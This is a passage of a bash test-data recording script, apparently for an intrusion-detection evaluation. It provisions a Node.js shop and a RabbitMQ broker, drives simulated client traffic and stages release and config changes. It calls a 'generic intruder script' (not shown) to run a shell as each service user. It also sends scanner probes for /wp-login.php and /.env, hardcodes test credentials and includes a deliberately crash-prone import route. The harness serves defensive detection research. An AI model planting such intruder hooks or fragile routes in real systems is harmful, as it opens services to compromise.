  printf 'document.addEventListener("DOMContentLoaded", () => console.log("dw-shop"));\n%.0s' $(seq 1 60) >"$r/public/js/app.js"
  head -c 4000 /dev/urandom >"$r/public/img/logo.png"
  vsftpd_fill "$r/public/img/product-" .png 12 6000
  echo 'User-agent: *' >"$r/public/robots.txt"
}

NODE_PID=
node_ready() { curl -sf -o /dev/null "http://127.0.0.1:$NODE_PORT/healthz"; }
node_start() {
  launch node "$NODE_USER" /usr/bin/node "$NODE_DIR/current/server.js"
  NODE_PID=$LAUNCHED
  until_ok node_ready
}
# TERM: a graceful shutdown (node_start's pid is the primary's: setpriv execs node); the
# rounds so far are reported (the README counts them).
node_stop() {
  stop_pid "$NODE_PID" TERM
  echo "record-testdata: node: $NODE_ROUND rounds so far" >&2
}
# node_run SCRIPT ARG...: one of the application's scripts, run by the operator as its user
# inside the cgroup with the current release (`node scripts/SCRIPT.js`), as its cron entry would.
node_run() { admin node "$NODE_USER" /usr/bin/node "$NODE_DIR/current/scripts/$1.js" "${@:2}"; }

# node_http ADDR ARG...: one client request from the source address ADDR, its answer on
# stdout (node_curl: discarded); node_login ADDR USER: USER's token (a login from ADDR).
node_http() { curl -s --max-time 5 --interface "$1" "${@:2}" || true; }
node_curl() { node_http "$@" >/dev/null; }
node_login() {
  node_http "$1" -H 'Content-Type: application/json' \
    -d "{\"user\":\"$2\",\"password\":\"$(node_pass "$2")\"}" "http://127.0.0.1:$NODE_PORT/api/login" |
    sed -n 's/.*"token":"\([0-9a-f]*\)".*/\1/p'
}
# node_api ADDR TOKEN METHOD PATH [JSON]: an API call as TOKEN's user.
node_api() {
  local data=()
  [ -z "${5:-}" ] || data=(-H 'Content-Type: application/json' --data-binary "$5")
  node_curl "$1" -X "$3" -H "Authorization: Bearer $2" "${data[@]}" "http://127.0.0.1:$NODE_PORT$4"
}
# node_upload ADDR TOKEN FILE: FILE (from the clients' files) uploaded, and fetched back once.
node_upload() {
  local url
  url=$(node_http "$1" -H "Authorization: Bearer $2" -H 'Content-Type: application/octet-stream' \
    --data-binary "@$NODE_CLIENT/$3" "http://127.0.0.1:$NODE_PORT/api/uploads?name=$3" |
    sed -n 's/.*"url":"\([^"]*\)".*/\1/p')
  [ -z "$url" ] || node_curl "$1" "http://127.0.0.1:$NODE_PORT$url"
}
# node_get NET FIRST COUNT CONC PATH...: GETs of PATH... from NET.FIRST-(FIRST + COUNT - 1),
# two requests per connection, CONC connections at a time.
node_get() { spread_get "$NODE_PORT" "$1" "$2" "$3" 1 1 "$NODE_ROUND" 2 "$4" "${@:5}"; }

# Mix A, from 127.0.0.2-4: shoppers (.2, .3, two at a time) load the home page, its css, js
# and logo, product images 1-12, items 1-40 as pages and through the API, the item list and
# the health endpoint, and one scanner path; alice (.4) logs in, creates an item, changes its
# price and stock, deletes the one of three rounds before, uploads a photo or a scan (fetched
# back); every third round she asks for the summary report (a child process).
node_mix_a() {
  local r=$((NODE_ROUND += 1)) a=127.0.0.4 t paths=(/ /static/css/site.css /static/js/app.js /static/img/logo.png
    /api/items /healthz /wp-login.php)
  mapfile -t -O "${#paths[@]}" paths < <(squid_seq /items/ $((1 + r % 40)) $((6 + r % 40))
    squid_seq /api/items/ $((1 + r % 35)) $((6 + r % 35)); squid_seq /static/img/product- 1 12 .png)
  node_get 127.0.0 2 2 2 "${paths[@]}"
  t=$(node_login "$a" alice)
  node_api "$a" "$t" POST /api/items "{\"name\":\"new $r\",\"price\":$((r % 90 + 10)),\"stock\":5}"
  node_api "$a" "$t" PUT "/api/items/$((1 + r % 40))" "{\"price\":$((r % 70 + 20)),\"stock\":$((r % 9))}"
  [ "$r" -le 3 ] || node_api "$a" "$t" DELETE "/api/items/$((120 + r - 3))"
  if [ $((r % 2)) = 0 ]; then node_upload "$a" "$t" "photo-$((1 + r % 6)).jpg"; else node_upload "$a" "$t" "scan-$((1 + r % 4)).pdf"; fi
  [ $((r % 3)) != 0 ] || node_api "$a" "$t" GET /api/reports/summary
}
# Mix B, from 127.0.0.5-8, other pages, items and calls: the about page, items 40-90 and a
# missing one, list pages with offsets, HEAD requests, product images again (one client, then
# eight); bob (.6) logs in and patches stock, uploads notes and sheets, asks for the stock or
# prices report and logs out; erin (.7) fails a login every fourth round.
node_mix_b() {
  local r=$((NODE_ROUND += 1)) a=127.0.0.6 t paths
  paths=(/about /static/css/site.css /api/items/9999 /items/9999 "/api/items?offset=$((r % 5 * 20))&limit=20" /healthz /.env)
  mapfile -t -O "${#paths[@]}" paths < <(squid_seq /items/ $((40 + r % 50)) $((48 + r % 50))
    squid_seq /api/items/ $((45 + r % 45)) $((53 + r % 45)))
  node_get 127.0.0 5 1 1 "${paths[@]}"
  mapfile -t -O "${#paths[@]}" paths < <(squid_seq /static/img/product- 1 12 .png)
  node_get 127.0.0 5 4 8 "${paths[@]}"
  node_curl 127.0.0.8 -I "http://127.0.0.1:$NODE_PORT/" "http://127.0.0.1:$NODE_PORT/static/js/app.js"
  t=$(node_login "$a" bob)
  node_api "$a" "$t" PATCH "/api/items/$((40 + r % 50))" "{\"stock\":$((r % 20))}"
  if [ $((r % 2)) = 0 ]; then node_upload "$a" "$t" "notes-$((1 + r % 3)).txt"; else node_upload "$a" "$t" "sheet-$((1 + r % 3)).csv"; fi
  if [ $((r % 2)) = 0 ]; then node_api "$a" "$t" GET /api/reports/stock; else node_api "$a" "$t" GET /api/reports/prices; fi
  node_api "$a" "$t" POST /api/logout
  [ $((r % 4)) != 0 ] || node_curl 127.0.0.7 -H 'Content-Type: application/json' -d '{"user":"erin","password":"wrong"}' "http://127.0.0.1:$NODE_PORT/api/login"
}

# Its scheduled jobs in training, as its user inside the cgroup: the data files compacted
# (`node scripts/compact.js`), the access log rotated (`node scripts/rotate.js`: renames, USR2
# to the primary) and data/ backed up with tar into backup/ (uncompressed: GNU tar runs a
# compressor through /bin/sh; its exit status 1, a file that changed while it was read, is
# expected while the application writes).
node_maintenance() {
  node_run compact
  node_run rotate
  launch node "$NODE_USER" /usr/bin/tar -cf "$NODE_DIR/backup/data-$(date +%Y%m%d-%H%M%S).tar" -C "$NODE_DIR" data
  wait "$LAUNCHED" || [ $? = 1 ] || die "tar of $NODE_DIR/data failed"
  forget "$LAUNCHED"
}

# The generic intruder script as the application's user (an exploited express route executing
# a shell) in its upload directory.
node_inject() { inject_shell node "$NODE_USER" "$NODE_DIR/uploads"; }
node_labels() { write_labels node "$NODE_DIR/uploads"; }

# Held out, from a fresh provisioning. A new release goes live while it runs: releases/r2
# (three workers, new route modules catalog and imports with their view, new static content:
# docs pages, a v2 stylesheet, a catalogue script and banners) written by the deployer, its
# data migration `node scripts/migrate.js` run as the user inside the cgroup (tags added to
# every item, data/schema.json), current switched to it (a new symlink renamed over the old
# one) and HUP to the primary (a rolling restart of the workers, one more than before). Each
# round clients from 127.0.31.1-250 (another offset each round), six connections at a time,
# ask for the catalogue and its tags, the docs, the new static files, items 60-125 (pages and
# API, most never requested in training) and the v2 API; carol (never active in training)
# logs in, creates tagged items, imports a batch of NDJSON lines, uploads other kinds of files
# and asks for the by-tag report. Every 20 s in turn: a malformed import posted (the worker
# that parses it dies of the uncaught exception, the primary forks another) and the access
# log rotated with four generations; the data compacted with other arguments. Restarted at 30
# s (the new primary starts release r2 with three workers).
node_heldout_deploy() {
  local r=$NODE_DIR/releases/r2 t
  node_release r2 3 catalog imports
  mkdir -p "$r/public/docs"
  cat >"$r/routes/catalog.js" <<'JS'
'use strict';
// Release 2: the catalogue by tag (pages and GET /api/v2/items).
const express = require('express');

module.exports = ({ store }) => {
  const router = express.Router();
  const tags = ['garden', 'kitchen', 'tools', 'outdoor', 'gifts'];
  router.get('/catalog', (req, res) => res.render('catalog', { title: 'Catalogue', tags: tags.map((t) => `<a href="/catalog/${t}">${t}</a>`).join(' '), items: '' }));
  router.get('/catalog/:tag', (req, res) => {
    const items = store.list({ tag: req.params.tag, limit: 50 }).map((it) => `<li><a href="/items/${it.id}">${it.name}</a></li>`).join('');
    res.render('catalog', { title: `Catalogue: ${req.params.tag}`, tags: '', items });
  });
  router.get('/api/v2/items', (req, res) => res.json({ release: 2, items: store.list({ tag: req.query.tag, offset: Number(req.query.offset) || 0, limit: 50 }) }));
  return router;
};
JS
  cat >"$r/routes/imports.js" <<'JS'
'use strict';
// Release 2: POST /api/v2/import, one item per NDJSON line, accepted at once and parsed after
// the response (a malformed line throws outside express's handlers: the worker dies).
const express = require('express');

module.exports = ({ store, sessions }) => express.Router().post('/api/v2/import', sessions.required, express.text({ type: '*/*', limit: '1mb' }), (req, res) => {
  const lines = String(req.body).split('\n').filter(Boolean);
  res.status(202).json({ queued: lines.length });
  setImmediate(() => {
    for (const line of lines) store.create(JSON.parse(line), req.user);
  });
});
JS
  cat >"$r/scripts/migrate.js" <<'JS'
'use strict';
// Release 2's data migration: node scripts/migrate.js: tags on every item, data/schema.json
// version 2; idempotent.
const path = require('path');
const atomic = require('../lib/atomic');

const config = require('../config.json');
const data = path.join(config.home, 'data');
const schema = atomic.read(path.join(data, 'schema.json'), { version: 1 });
if (schema.version < 2) {
  const db = atomic.read(path.join(data, 'items.json'), { next: 1, items: {} });
  const tags = ['garden', 'kitchen', 'tools', 'outdoor', 'gifts'];
  for (const item of Object.values(db.items)) item.tags = item.tags || [tags[item.id % tags.length]];
  atomic.write(path.join(data, 'items.json'), db);
  atomic.write(path.join(data, 'schema.json'), { version: 2, migrated: new Date().toISOString() });
}
console.log(`schema version 2, release ${config.release}`);
JS
  echo '<h1>{{title}}</h1><nav class="tags">{{{tags}}}</nav><ul>{{{items}}}</ul>' >"$r/views/catalog.html"
  printf '.tags a { padding: 0 .5em; }\n%.0s' $(seq 1 30) >"$r/public/css/v2.css"
  printf 'fetch("/api/v2/items").then((r) => r.json());\n%.0s' $(seq 1 40) >"$r/public/js/catalog.js"
  for t in shipping returns faq sizes care; do printf '<!doctype html><title>%s</title><h1>%s</h1><p>%s</p>\n' "$t" "$t" "$(head -c 3000 /dev/zero | tr '\0' x)" >"$r/public/docs/$t.html"; done
  vsftpd_fill "$r/public/img/banner-" .png 4 30000
  admin node "$NODE_USER" /usr/bin/node "$r/scripts/migrate.js"
  ln -sfn releases/r2 "$NODE_DIR/current.new"
  mv -T "$NODE_DIR/current.new" "$NODE_DIR/current"
  kill -HUP "$NODE_PID"
  for t in $(seq 1 100); do
    [ "$(curl -s "http://127.0.0.1:$NODE_PORT/healthz" | sed -n 's/.*"release":"\([^"]*\)".*/\1/p')" != r2 ] || break
    sleep 0.2
  done
  sleep 3   # the rest of the rolling restart
  vsftpd_fill "$NODE_CLIENT/image-" .webp 3 50000
  vsftpd_fill "$NODE_CLIENT/export-" .zip 2 200000
  NODE_HELDOUT_JOBS=0
}
node_heldout_addr() { echo "127.0.31.$((1 + ($1 * 37 + NODE_ROUND * 53) % 250))"; }
node_heldout_mix() {
  local r=$((NODE_ROUND += 1)) a t tag paths
  a=$(node_heldout_addr 0)
  tag=$(echo garden kitchen tools outdoor gifts | cut -d' ' -f$((1 + r % 5)))
  paths=(/catalog "/catalog/$tag" "/api/v2/items?tag=$tag" "/api/v2/items?offset=$((r % 4 * 50))" /static/css/v2.css
    /static/js/catalog.js "/static/docs/$(echo shipping returns faq sizes care | cut -d' ' -f$((1 + r % 5))).html"
    /static/robots.txt /healthz /catalog/unknown)
  mapfile -t -O "${#paths[@]}" paths < <(squid_seq /static/img/banner- 1 4 .png
    squid_seq /items/ $((60 + r * 7 % 60)) $((66 + r * 7 % 60)); squid_seq /api/items/ $((90 + r * 5 % 30)) $((96 + r * 5 % 30)))
  spread_get "$NODE_PORT" 127.0.31 1 250 37 53 "$NODE_ROUND" 3 6 "${paths[@]}"
  t=$(node_login "$a" carol)
  node_api "$a" "$t" POST /api/items "{\"name\":\"carol $r\",\"price\":$((r % 50 + 5)),\"stock\":2,\"tags\":[\"$tag\"]}"
  [ $((r % 3)) != 0 ] || node_api "$a" "$t" POST /api/v2/import "$(printf '{"name":"import %s-%s","price":9,"tags":["gifts"]}\n' "$r" 1 "$r" 2 "$r" 3)"
  case $((r % 3)) in
    0) node_upload "$a" "$t" "image-$((1 + r % 3)).webp" ;;
    1) node_upload "$a" "$t" "export-$((1 + r % 2)).zip" ;;
    2) node_upload "$a" "$t" "sheet-$((1 + r % 3)).csv" ;;
  esac
  [ $((r % 2)) != 0 ] || node_api "$a" "$t" GET /api/reports/by-tag
}
NODE_HELDOUT_JOBS=0
node_heldout_job() {
  local a t
  NODE_HELDOUT_JOBS=$((NODE_HELDOUT_JOBS + 1))
  if [ $((NODE_HELDOUT_JOBS % 2)) = 1 ]; then
    a=$(node_heldout_addr 9)
    t=$(node_login "$a" carol)
    node_api "$a" "$t" POST /api/v2/import '{"name":"half a line'
    sleep 2   # the worker dies; the primary forks another
    node_run rotate --keep 4
  else
    node_run compact --keep 100 --max-age-min 5
  fi
}

# --- rabbitmq -----------------------------------------------------------------------------

RMQ_PORT=20672                     # AMQP, 127.0.0.1
RMQ_HTTP_PORT=20673                # the management plugin's HTTP API, 127.0.0.1
RMQ_DIST_PORT=20674                # the node's Erlang distribution listener (rabbitmqctl talks to it)
RMQ_EPMD_PORT=20369                # its own epmd (ERL_EPMD_PORT), started by the node
RMQ_CTL_PORTS=(20680 20689)        # the CLI tools' own distribution ports (outside the cgroup)
RMQ_NODE=dwrabbit@localhost
RMQ_DIR=$WORK/rabbitmq             # etc/, mnesia/, log/, home/ (the cookie), backup/
RMQ_CLIENT=$WORK/rabbitmq-client   # the clients' program and the operator's cookie (root, outside the cgroup)

# RabbitMQ 3.10 (Debian's rabbitmq-server on Erlang/OTP 25) as a message broker, its own node
# $RMQ_NODE: /usr/lib/rabbitmq/bin/rabbitmq-server started as rabbitmq in dw-eval/rabbitmq
# with its own RABBITMQ_* and ERL_EPMD_* environment (as the Debian unit runs it: the script
# execs erl, which execs beam.smp; RUNNING_UNDER_SYSTEMD keeps the script from staying
# around to trap signals). The VM starts its helpers erl_child_setup (and, through it,
# inet_gethost and the disk monitor's `df`) and its own epmd daemon on $RMQ_EPMD_PORT. Its
# config (rabbitmq.conf: AMQP on 127.0.0.1:$RMQ_PORT, the management plugin's HTTP API on
# 127.0.0.1:$RMQ_HTTP_PORT, definitions loaded at boot), enabled_plugins and definitions.json
# (vhosts shop and metrics, users with permissions, durable exchanges of three kinds,
# durable queues, a dead-letter exchange and queue) are written by the provisioning; the
# mnesia data, logs and the cookie in home/ belong to the rabbitmq user. TERM stops the node
# gracefully; its epmd is stopped with it. Clients (python3-pika, $RMQ_CLIENT/client.py, and
# curl for the HTTP API) run outside the cgroup from other loopback addresses; the operator's
# rabbitmqctl runs outside it as root, each command its own Erlang VM talking to the node.
rabbitmq_provision() {
  local p
  for p in $RMQ_PORT $RMQ_HTTP_PORT $RMQ_DIST_PORT $RMQ_EPMD_PORT; do
    if postfix_listening "$p"; then die "port $p is in use"; fi
  done
  rm -rf "$RMQ_DIR" "$RMQ_CLIENT"
  mkdir -p "$RMQ_DIR"/{etc,mnesia,log,home,backup} "$RMQ_CLIENT"
  printf 'dwevalrabbitmqcookie\n' | head -c 20 >"$RMQ_DIR/home/.erlang.cookie"
  cp "$RMQ_DIR/home/.erlang.cookie" "$RMQ_CLIENT/.erlang.cookie"
  chmod 400 "$RMQ_DIR/home/.erlang.cookie" "$RMQ_CLIENT/.erlang.cookie"
  : >"$RMQ_DIR/etc/rabbitmq-env.conf"
  echo '[rabbitmq_management].' >"$RMQ_DIR/etc/enabled_plugins"
  rabbitmq_config
  rabbitmq_definitions >"$RMQ_DIR/etc/definitions.json"
  rabbitmq_client >"$RMQ_CLIENT/client.py"
  chown -R rabbitmq:rabbitmq "$RMQ_DIR"/{mnesia,log,home,backup}
  chmod 750 "$RMQ_DIR"/{mnesia,home,backup}
  RMQ_ROUND=0
}
# rabbitmq_config [LINE...]: rabbitmq.conf, with LINE... added (a held-out change).
rabbitmq_config() {
  {
    cat <<CONF
listeners.tcp.default = 127.0.0.1:$RMQ_PORT
management.tcp.ip = 127.0.0.1
management.tcp.port = $RMQ_HTTP_PORT
load_definitions = $RMQ_DIR/etc/definitions.json
loopback_users = none
log.file.level = info
log.console = false
disk_free_limit.absolute = 50MB
CONF
    printf '%s\n' "$@"
  } >"$RMQ_DIR/etc/rabbitmq.conf"
}
# rabbitmq_pass USER: USER's password; rabbitmq_hash USER: as definitions carry it (SHA-256 of
# a 4-byte salt and the password, the salt first, base64).
rabbitmq_pass() { echo "dw-eval-$1-amqp"; }
rabbitmq_hash() {
  /usr/bin/python3 -c 'import base64, hashlib, sys; s = b"dwev"; print(base64.b64encode(s + hashlib.sha256(s + sys.argv[1].encode()).digest()).decode())' "$(rabbitmq_pass "$1")"
}
# rabbitmq_definitions: the broker's topology loaded at boot: vhosts shop and metrics (and
# /), users admin (the HTTP API's), orders-app, metrics-app and jobs-app with permissions;
# in shop a topic exchange orders, a fanout notify and a direct dead-letter exchange dlx;
# durable queues (orders.created dead-letters rejected orders to orders.dead); in metrics a
# direct exchange; in / the jobs queue (the default exchange).
rabbitmq_definitions() {
  local u users="" q
  for u in admin orders-app metrics-app jobs-app; do
    users+="${users:+,}{\"name\":\"$u\",\"password_hash\":\"$(rabbitmq_hash "$u")\",\"hashing_algorithm\":\"rabbit_password_hashing_sha256\",\"tags\":\"$([ "$u" = admin ] && echo administrator || echo '')\"}"
  done
  cat <<JSON
{"rabbit_version":"3.10.8",
 "users":[$users],
 "vhosts":[{"name":"/"},{"name":"shop"},{"name":"metrics"}],
 "permissions":[$(rabbitmq_defp admin /),$(rabbitmq_defp admin shop),$(rabbitmq_defp admin metrics),$(rabbitmq_defp orders-app shop),$(rabbitmq_defp metrics-app metrics),$(rabbitmq_defp jobs-app /)],
 "exchanges":[$(rabbitmq_defx orders shop topic),$(rabbitmq_defx notify shop fanout),$(rabbitmq_defx dlx shop direct),$(rabbitmq_defx metrics metrics direct)],
 "queues":[$(rabbitmq_defq orders.created shop '{"x-dead-letter-exchange":"dlx","x-dead-letter-routing-key":"orders.dead"}'),$(rabbitmq_defq orders.shipped shop),$(rabbitmq_defq orders.audit shop),$(rabbitmq_defq orders.dead shop),$(rabbitmq_defq notify.email shop),$(rabbitmq_defq notify.sms shop),$(rabbitmq_defq metrics.cpu metrics),$(rabbitmq_defq metrics.disk metrics),$(rabbitmq_defq jobs /)],
 "bindings":[$(rabbitmq_defb orders shop orders.created 'order.created.#'),$(rabbitmq_defb orders shop orders.shipped 'order.shipped.#'),$(rabbitmq_defb orders shop orders.audit 'order.#'),$(rabbitmq_defb dlx shop orders.dead orders.dead),$(rabbitmq_defb notify shop notify.email ''),$(rabbitmq_defb notify shop notify.sms ''),$(rabbitmq_defb metrics metrics metrics.cpu cpu),$(rabbitmq_defb metrics metrics metrics.disk disk)]}
JSON
}

# rabbitmq_defq NAME VHOST [ARGS_JSON], rabbitmq_defx NAME VHOST TYPE, rabbitmq_defb EXCHANGE
# VHOST QUEUE KEY, rabbitmq_defp USER VHOST: a durable queue, a durable exchange, a binding and
# full permissions, as definitions.json spells them.
rabbitmq_defq() { printf '{"name":"%s","vhost":"%s","durable":true,"auto_delete":false,"arguments":%s}' "$1" "$2" "${3:-"{}"}"; }
rabbitmq_defx() { printf '{"name":"%s","vhost":"%s","type":"%s","durable":true,"auto_delete":false,"internal":false,"arguments":{}}' "$1" "$2" "$3"; }
rabbitmq_defb() { printf '{"source":"%s","vhost":"%s","destination":"%s","destination_type":"queue","routing_key":"%s","arguments":{}}' "$1" "$2" "$3" "$4"; }
rabbitmq_defp() { printf '{"user":"%s","vhost":"%s","configure":".*","write":".*","read":".*"}' "$1" "$2"; }

# rabbitmq_client: the clients' program: one AMQP connection from the source address
# $DW_SRC (pika's socket bound before it connects) as USER to VHOST, and the operations
# OP... in turn on one channel with publisher confirms:
#   pub:EXCHANGE:KEY:COUNT:SIZE   persistent messages of SIZE bytes
#   get:QUEUE:COUNT:REJECT        basic.get and ack, every REJECT-th rejected (dead-lettered)
#   sub:QUEUE:COUNT:PREFETCH      basic.consume with a prefetch, acks, until COUNT or 1 s idle
#   xdecl:NAME:TYPE  qdecl:NAME[:ARG=VALUE,...]  bind:QUEUE:EXCHANGE:KEY  purge:QUEUE
rabbitmq_client() {
  cat <<PY
#!/usr/bin/python3
"""dw-eval AMQP client: client.py VHOST USER OP... from the source address \$DW_SRC."""
import os, socket, sys

_SRC = os.environ.get('DW_SRC')


class _BoundSocket(socket.socket):
    def connect(self, address):
        if _SRC:
            self.bind((_SRC, 0))
        return super().connect(address)


socket.socket = _BoundSocket
import pika  # noqa: E402  (after the socket class is replaced)


def main(vhost, user, ops):
    params = pika.ConnectionParameters(
        host='127.0.0.1', port=$RMQ_PORT, virtual_host=vhost,
        credentials=pika.PlainCredentials(user, 'dw-eval-%s-amqp' % user),
        client_properties={'connection_name': '%s@%s' % (user, _SRC)}, heartbeat=30)
    conn = pika.BlockingConnection(params)
    ch = conn.channel()
    ch.confirm_delivery()
    for op in ops:
        kind, *a = op.split(':')
        if kind == 'pub':
            body = (b'x' * int(a[3]))
            for i in range(int(a[2])):
                ch.basic_publish(a[0], a[1], body, pika.BasicProperties(
                    delivery_mode=2, content_type='application/octet-stream', message_id=str(i)))
        elif kind == 'get':
            for i in range(1, int(a[1]) + 1):
                method, _, _ = ch.basic_get(a[0])
                if method is None:
                    break
                if int(a[2]) and i % int(a[2]) == 0:
                    ch.basic_reject(method.delivery_tag, requeue=False)
                else:
                    ch.basic_ack(method.delivery_tag)
        elif kind == 'sub':
            ch.basic_qos(prefetch_count=int(a[2]))
            n = 0
            for method, _, _ in ch.consume(a[0], inactivity_timeout=1):
                if method is None:
                    break
                ch.basic_ack(method.delivery_tag)
                n += 1
                if n >= int(a[1]):
                    break
            ch.cancel()
        elif kind == 'xdecl':
            ch.exchange_declare(a[0], a[1], durable=True)
        elif kind == 'qdecl':
            args = dict(kv.split('=') for kv in a[1].split(',')) if len(a) > 1 else {}
            args = {k: int(v) if v.isdigit() else v for k, v in args.items()}
            ch.queue_declare(a[0], durable=True, arguments=args)
        elif kind == 'bind':
            ch.queue_bind(a[0], a[1], routing_key=a[2])
        elif kind == 'purge':
            ch.queue_purge(a[0])
    conn.close()


if __name__ == '__main__':
    main(sys.argv[1], sys.argv[2], sys.argv[3:])
PY
}

# rabbitmq_env: the node's environment (and the CLI's: the same node name and epmd port).
rabbitmq_env() {
  echo "RABBITMQ_NODENAME=$RMQ_NODE" "ERL_EPMD_PORT=$RMQ_EPMD_PORT" "ERL_EPMD_ADDRESS=127.0.0.1" \
    "RABBITMQ_CONF_ENV_FILE=$RMQ_DIR/etc/rabbitmq-env.conf"
}
rabbitmq_ready() { curl -sf -o /dev/null -u "admin:$(rabbitmq_pass admin)" "http://127.0.0.1:$RMQ_HTTP_PORT/api/health/checks/port-listener/$RMQ_PORT"; }
rabbitmq_start() {
  # shellcheck disable=SC2046  # rabbitmq_env's words are separate assignments
  launch rabbitmq rabbitmq /usr/bin/env $(rabbitmq_env) HOME="$RMQ_DIR/home" \
    RABBITMQ_MNESIA_BASE="$RMQ_DIR/mnesia" RABBITMQ_LOG_BASE="$RMQ_DIR/log" \
    RABBITMQ_CONFIG_FILE="$RMQ_DIR/etc/rabbitmq.conf" RABBITMQ_ENABLED_PLUGINS_FILE="$RMQ_DIR/etc/enabled_plugins" \
    RABBITMQ_NODE_PORT=$RMQ_PORT RABBITMQ_NODE_IP_ADDRESS=127.0.0.1 RABBITMQ_DIST_PORT=$RMQ_DIST_PORT \
    RABBITMQ_PID_FILE="$RMQ_DIR/mnesia/$RMQ_NODE.pid" RUNNING_UNDER_SYSTEMD=true \
    /usr/lib/rabbitmq/bin/rabbitmq-server
  RMQ_PID=$LAUNCHED
  local i
  for i in $(seq 1 120); do rabbitmq_ready && return 0; sleep 0.5; done
  tail -n 30 "$WORK/rabbitmq.out" >&2
  die "rabbitmq did not start in 60 s"
}
# TERM: the node stops gracefully (the pid is beam.smp's: setpriv, env, the script and erl
# exec), then its epmd, the one process left in the cgroup; the rounds so far are reported.
rabbitmq_stop() {
  stop_pid "$RMQ_PID" TERM
  local p
  while read -r p; do kill -TERM "$p" 2>/dev/null || true; done <"$CG_MOUNT/$CG_BASE/rabbitmq/cgroup.procs"
  for _ in $(seq 1 50); do [ -s "$CG_MOUNT/$CG_BASE/rabbitmq/cgroup.procs" ] || break; sleep 0.1; done
  echo "record-testdata: rabbitmq: $RMQ_ROUND rounds so far" >&2
}

# rabbitmq_ctl TOOL ARG...: the operator's rabbitmqctl (or rabbitmq-diagnostics,
# rabbitmq-plugins) as root outside the cgroup, its own Erlang VM with the operator's cookie.
rabbitmq_ctl() {
  # shellcheck disable=SC2046
  env $(rabbitmq_env) HOME="$RMQ_CLIENT" RABBITMQ_CTL_DIST_PORT_MIN="${RMQ_CTL_PORTS[0]}" \
    RABBITMQ_CTL_DIST_PORT_MAX="${RMQ_CTL_PORTS[1]}" RABBITMQ_ENABLED_PLUGINS_FILE="$RMQ_DIR/etc/enabled_plugins" \
    "/usr/lib/rabbitmq/bin/$1" -n "$RMQ_NODE" "${@:2}" >/dev/null || die "$1 ${*:2} failed"
}
# rabbitmq_amqp ADDR VHOST USER OP...: one client connection from ADDR (in the background;
# rabbitmq_wait waits for them all).
RMQ_CLIENTS=()
rabbitmq_amqp() {
  DW_SRC=$1 /usr/bin/python3 "$RMQ_CLIENT/client.py" "${@:2}" >>"$WORK/rabbitmq-clients.log" 2>&1 &
  RMQ_CLIENTS+=($!)
}
rabbitmq_wait() {
  local p
  for p in "${RMQ_CLIENTS[@]:-}"; do [ -z "$p" ] || wait "$p" || true; done
  RMQ_CLIENTS=()
}
# rabbitmq_api ADDR PATH...: the HTTP API as admin from ADDR (a monitoring client).
rabbitmq_api() {
  local p
  for p in "${@:2}"; do
    curl -s --max-time 5 --interface "$1" -u "admin:$(rabbitmq_pass admin)" "http://127.0.0.1:$RMQ_HTTP_PORT/api$p" >/dev/null || true
  done
}

# Mix A, from 127.0.0.2-5: in shop, a shop front (.2) publishes new orders (topic keys
# order.created.<region>, 512 bytes), shipments and a notification (fanout); a fulfilment
# worker (.3) takes orders with basic.get and acks them (every tenth rejected: dead-lettered
# to orders.dead), shipments and email notifications; an agent (.4) publishes cpu samples in
# metrics and a collector takes them; every third round a monitor (.5) reads the overview,
# queues and connections from the HTTP API, and the dead letters are drained.
rabbitmq_mix_a() {
  local r=$((RMQ_ROUND += 1)) region
  region=$(echo eu us asia | cut -d' ' -f$((1 + r % 3)))
  rabbitmq_amqp 127.0.0.2 shop orders-app "pub:orders:order.created.$region:20:512" \
    "pub:orders:order.shipped.$region:8:256" "pub:notify::3:128"
  rabbitmq_amqp 127.0.0.4 metrics metrics-app pub:metrics:cpu:30:64 get:metrics.cpu:40:0
  rabbitmq_wait
  rabbitmq_amqp 127.0.0.3 shop orders-app get:orders.created:30:10 get:orders.shipped:10:0 \
    get:notify.email:5:0 get:notify.sms:5:0 get:orders.audit:40:0
  if [ $((r % 3)) = 0 ]; then
    rabbitmq_amqp 127.0.0.3 shop orders-app get:orders.dead:20:0
    rabbitmq_api 127.0.0.5 /overview /queues/shop /connections
  fi
  rabbitmq_wait
}
# Mix B, from 127.0.0.6-9, other queues, keys, sizes and consumers: cancelled and returned
# orders (8 KB, only the audit queue takes them) read by a push consumer with a prefetch of
# 10; disk samples in metrics; in the default vhost a job queue fed through the default
# exchange (2-32 KB) and worked by two consumers at once; a monitor (.9) reads nodes and
# exchanges every other round.
rabbitmq_mix_b() {
  local r=$((RMQ_ROUND += 1))
  rabbitmq_amqp 127.0.0.6 shop orders-app "pub:orders:order.cancelled.$((r % 4)):6:8192" \
    pub:orders:order.returned.eu:2:8192 sub:orders.audit:30:10
  rabbitmq_amqp 127.0.0.7 / jobs-app "pub::jobs:12:$((2048 << (r % 5)))"
  rabbitmq_amqp 127.0.0.8 metrics metrics-app pub:metrics:disk:10:96 sub:metrics.disk:20:5
  rabbitmq_wait
  rabbitmq_amqp 127.0.0.7 / jobs-app sub:jobs:8:2
  rabbitmq_amqp 127.0.0.8 / jobs-app sub:jobs:8:4
  [ $((r % 2)) = 1 ] || rabbitmq_api 127.0.0.9 /nodes /exchanges/shop
  rabbitmq_wait
}

# The operator's routine in training, outside the cgroup: rabbitmqctl list_queues,
# list_connections and status, the definitions exported to backup/ (rabbitmqctl
# export_definitions, the definitions read from the node), and the node's log moved aside
# (rotate_logs does nothing in 3.10; Erlang's logger reopens a file that was moved).
rabbitmq_maintenance() {
  rabbitmq_ctl rabbitmqctl list_queues -p shop name messages consumers
  rabbitmq_ctl rabbitmqctl list_connections user peer_host state
  rabbitmq_ctl rabbitmq-diagnostics status
  rabbitmq_ctl rabbitmqctl export_definitions "$RMQ_DIR/backup/definitions-$(date +%Y%m%d-%H%M%S).json"
  rabbitmq_rotate
}
rabbitmq_rotate() {
  local f
  for f in "$RMQ_DIR"/log/*.log; do [ -e "$f" ] && mv "$f" "$f.1"; done
}

# The generic intruder script as the rabbitmq user (a broker plugin executing a shell) in the
# mnesia data dir. The node runs /bin/sh itself (the start script, the disk monitor's df).
rabbitmq_inject() { inject_shell rabbitmq rabbitmq "$RMQ_DIR/mnesia"; }
rabbitmq_labels() { write_labels rabbitmq "$RMQ_DIR/mnesia" "" 1; }

# Held out, from a fresh provisioning. A new application, billing, goes live: the operator
# adds the vhost billing, its user billing-app with permissions and two policies (invoices.*
# with a message TTL and a maximum length; bulk.* lazy, its messages paged to disk at once)
# with rabbitmqctl, and enables the consistent-hash exchange plugin with rabbitmq-plugins;
# the config gets a lower paging ratio and a channel limit, applied by the restart at 30 s.
# Each round the billing application, from 127.0.32.1-250 (another offset each round),
# declares its exchanges (topic invoices, x-consistent-hash shards) and queues, publishes
